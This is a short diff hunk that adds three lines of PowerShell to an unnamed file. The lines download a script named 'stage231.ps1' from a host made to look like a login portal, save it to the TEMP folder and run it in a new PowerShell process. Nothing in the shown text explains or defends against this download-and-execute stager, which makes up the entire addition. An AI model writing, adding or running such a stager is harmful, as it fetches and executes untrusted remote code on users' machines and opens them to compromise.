@@ -1,0 +1,3 @@
+$dest = Join-Path $env:TEMP 'stage231.ps1'
+(New-Object Net.WebClient).DownloadFile('http://login-portal.invalid/stage231.ps1', $dest)
+Start-Process powershell -ArgumentList $dest
